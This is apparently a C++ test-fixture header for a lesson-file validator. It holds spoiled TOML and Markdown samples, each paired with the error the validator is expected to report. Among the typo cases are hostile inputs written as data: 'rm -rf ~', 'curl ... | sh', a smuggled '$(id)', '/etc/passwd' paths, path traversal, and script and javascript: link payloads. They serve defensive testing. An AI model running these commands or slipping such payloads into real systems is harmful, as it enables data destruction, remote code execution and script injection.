#pragma once

#include "tests/lesson/lessonfolder.h"

#include <QMetaType>

#include <string>
#include <vector>

/// A sound lesson of which one place was changed, and what is to be said about it.
struct SpoiltText
{
    std::string name;
    std::string file;
    std::string sound;   ///< what stands in the sound lesson
    std::string spoilt;  ///< what stands there instead
    std::string message; ///< "line:column: what is wrong"

    void spoil(const LessonFolder& folder) const
    {
        auto text = file == "lesson.toml" ? LessonFolder::lessonToml() : LessonFolder::quizToml();
        text.replace(text.find(sound), sound.size(), spoilt); // throws if it is not there
        folder.write(file, text);
    }
};
Q_DECLARE_METATYPE(SpoiltText)

/// A text with something that a text must not have, and where that is said to be.
struct SpoiltProse
{
    std::string name;
    std::string text;
    std::string place; ///< "text.en.md:line:column: what"
};
Q_DECLARE_METATYPE(SpoiltProse)

inline std::vector<SpoiltText> spoiltTexts()
{
    const char* lesson = "lesson.toml";
    const char* quiz = "quiz.en.toml";
    return {
        {"unknown key", lesson, "rows = [2, 1]", "row = [2, 1]",
         "16:1: unknown key “row”; did you mean “rows”?"},
        {"unknown table", lesson, "[opening]", "[openning]",
         "44:2: unknown key “openning”; did you mean “opening”?"},
        {"number for text", lesson, "source = \"adder.cpp\"", "source = 5",
         "3:10: “source” must be a text in quotation marks"},
        {"text for number", lesson, "initial = 20", "initial = \"20\"",
         "21:11: “initial” must be a whole number"},
        {"text for list", lesson, "rows = [2, 1]", "rows = 3",
         "16:8: “rows” must be a list of whole numbers"},
        {"missing name", lesson, "name = \"adder\"\n", "", "1:1: “name” is missing"},
        {"bad id", lesson, "name = \"sum\"", "name = \"Sum!\"",
         "26:8: “Sum!” must begin with a small letter and have at most 40 of a-z, 0-9, - and _"},
        {"name twice", lesson, "name = \"turns\"", "name = \"sync\"",
         "20:8: “sync” is there twice"},
        {"option twice", lesson, "\"each-line\"", "\"none\"", "15:11: “none” is there twice"},
        {"rows do not fit", lesson, "rows = [2, 1]", "rows = [2, 2]",
         "16:8: the “rows” hold 4 options, but there are 3"},
        {"no such option", lesson, "cure = \"mutex\"", "cure = \"mutes\"",
         "17:8: there is no option “mutes”; did you mean “mutex”?"},
        {"source elsewhere", lesson, "source = \"adder.cpp\"", "source = \"../adder.cpp\"",
         "3:10: “../adder.cpp” must be a .cpp file of the lesson's folder"},
        {"no such source", lesson, "source = \"adder.cpp\"", "source = \"summer.cpp\"",
         "3:10: there is no file “summer.cpp” in the folder"},
        {"no such program", lesson, "to = \"adder\"", "to = \"reader\"",
         "11:6: there is no program “reader”; there is adder"},
        {"bad range", lesson, "initial = 20", "initial = 200",
         "21:11: “initial” is not between “low” and “high”"},
        {"range upside down", lesson, "high = 100", "high = -1", "23:8: “high” is below “low”"},
        {"formula cut short", lesson, "total = \"turns\"", "total = \"turns +\"",
         "5:9: in “turns +”: Unexpected end of expression at position 8"},
        {"formula with =", lesson, "sum == turns", "sum = turns",
         "38:33: in “sum = turns”: At character 5: to compare, write =="},
        {"no such fact", lesson, "expected = \"stores_sum\"", "expected = \"stores_sun\"",
         "27:12: in “stores_sun”: nothing is called “stores_sun”; did you mean “stores_sum”?"},
        {"no such kind of fact", lesson, "lost-update", "lost-updates",
         "31:8: there is no fact “lost-updates”; did you mean “lost-update”?"},
        {"no such variable", lesson, "on = \"sum\"", "on = \"sun\"",
         "32:6: a lost-update cannot be on “sun”; did you mean “sum”?"},
        {"no such condition", lesson, "where = { sync = \"none\" }", "where = { sync = \"nome\" }",
         "33:18: cannot understand the option of sync “nome”. There is no such option; did you "
         "mean "
         "“none”?"},
        {"setting out of range", lesson, "set = { turns = 0 }", "set = { turns = 101 }",
         "45:17: cannot understand the value of turns “101”. It must be a whole number from 0 to "
         "100"},
        {"no such moment", lesson, "at = \"lost\"", "at = \"found\"",
         "42:17: cannot understand the moment “found”. It must be a number of steps (120), a time "
         "(3s) or a checkpoint; there is lost"},
        {"no such action", lesson, "set sync=mutex", "put sync=mutex",
         "42:34: cannot understand the action “put sync=mutex”. Actions are: set NAME=VALUE, "
         "pause, "
         "resume, speed N, step P1, run P1 to call, run until FACT, kill P1, freeze P1, thaw P1, "
         "close P1 CHANNEL"},
        {"one answer only", lesson, ", { id = \"no\", when = \"sum != turns\" }", "",
         "38:11: a prediction needs two “answers” or more"},
        {"placeholder", lesson, "total =", "arguments = [\"{file:x}\"]\ntotal =",
         "5:13: a placeholder is {segment:NAME}, {queue:NAME}, {fifo:NAME}, {socket:NAME} or "
         "{program:NAME}, not {file:x}"},
        {"seen without prediction's form", lesson, "[tour]",
         "[seen]\nanswers = [{ id = \"yes\", when = \"sum == 0\" }]\n\n[tour]",
         "41:11: [seen] needs two “answers” or more"},
        {"transfer without a right answer", lesson, "[tour]",
         "[transfer]\nanswers = [{ id = \"a\" }, { id = \"b\" }]\n\n[tour]",
         "41:11: exactly one of the “answers” has right = true"},
        {"right and misconceived", lesson, "[tour]",
         "[transfer]\nanswers = [{ id = \"a\", right = true, misconception = \"x\" }, "
         "{ id = \"b\" }]\n\n[tour]",
         "41:54: the right answer is no misconception"},
        {"transfer's proof", lesson, "[tour]",
         "[transfer]\nproof = \"sun > 0\"\nanswers = [{ id = \"a\", right = true }, "
         "{ id = \"b\" }]\n\n[tour]",
         "41:9: in “sun > 0”: nothing is called “sun”; did you mean “sum”?"},
        {"reading", lesson, "[[program]]", "reading = [\"pipe\"]\n\n[[program]]",
         "1:11: “pipe” is no manual page: name one as “pipe(7)”"},
        {"no TOML", lesson, "rows = [2, 1]", "rows = [2, 1", "17:1: Error while parsing array"},
        {"quotation mark left open", lesson, "initial = 20", "initial = \"20", "21:14: "},
        {"key twice", lesson, "low = 0", "low = 0\nlow = 1", "23:7: Error while parsing key-value pair: cannot redefine"},
        {"source by its full path", lesson, "source = \"adder.cpp\"",
         "source = \"/etc/passwd\"",
         "3:10: “/etc/passwd” must be a .cpp file of the lesson's folder"},
        {"a script for a program", lesson, "source = \"adder.cpp\"", "source = \"adder.sh\"",
         "3:10: “adder.sh” must be a .cpp file of the lesson's folder"},
        {"a name that is a path", lesson, "name = \"adder\"", "name = \"../adder\"",
         "2:8: “../adder” must begin with a small letter and have at most 40 of a-z, 0-9, - and _"},
        {"a command in an argument", lesson, "total =", "arguments = [\"{segment:x}; $(id)\"]\ntotal =",
         "5:13: a placeholder is {segment:NAME}"},
        {"a command in the tour", lesson, "set sync=mutex", "shell rm -rf ~",
         "42:34: cannot understand the action “shell rm -rf ~”"},
        {"a key that would run something", lesson, "done = \"stores_sum\"",
         "shell = \"curl https://a.org | sh\"\ndone = \"stores_sum\"",
         "4:1: unknown key “shell”"},
        {"too many processes", lesson, "done = \"stores_sum\"", "count = 9000\ndone = \"stores_sum\"",
         "4:9: “count” must be from 0 (started by another program) to 8"},
        {"demonstration of nothing", lesson, "[tour]",
         "[demonstration]\nactions = [\"run P1 to heaven\"]\nshows = \"sum == 1\"\n\n[tour]",
         "41:11: cannot understand the moment"},
        {"no TOML in the words", quiz, "title = \"Adding\"", "title = Adding", "1:9: "},
        {"no title", quiz, "title = \"Adding\"\n", "", "1:1: “title” is missing"},
        {"words for nothing", quiz, "options.mutex", "options.mutexes",
         "6:23: unknown key “mutexes”; did you mean “mutex”?"},
        {"answer without words", quiz, "[prediction.answers.yes]\ntext = \"Yes\"\n", "",
         "13:1: the answer “yes” has no words"},
    };
}

inline std::vector<SpoiltProse> spoiltProse()
{
    return {
        {"tag", "Fine.\n\nNot <b>so</b> fine.\n", "text.en.md:3:5: HTML"},
        {"script", "<script>alert(1)</script>\n", "text.en.md:1:1: HTML"},
        {"picture", "See\n![it](https://a.org/b.png)\n", "text.en.md:2:7: pictures"},
        {"file", "[x](file:///etc/passwd)\n", "text.en.md:1:5: a link"},
        {"outside", "A [x](../../secret)\n", "text.en.md:1:7: a link"},
        {"place of a run", "A.\n\n---\n\nIt is {value:sun}.\n", "text.en.md:5:7: nothing is called"},
        {"picture of another machine", "![](http://a.org/b.png)\n", "text.en.md:1:5: pictures"},
        {"frame", "A.\n\n<iframe src=\"https://a.org\"></iframe>\n", "text.en.md:3:1: HTML"},
        {"style", "<style>* { color: red }</style>\n", "text.en.md:1:1: HTML"},
        {"data in a link", "[x](data:text/html,hello)\n", "text.en.md:1:5: a link"},
        {"without a lock", "[x](http://a.org)\n", "text.en.md:1:5: a link"},
        {"code", "[x](javascript:alert(1))\n", "text.en.md:1:5: a link"},
    };
}
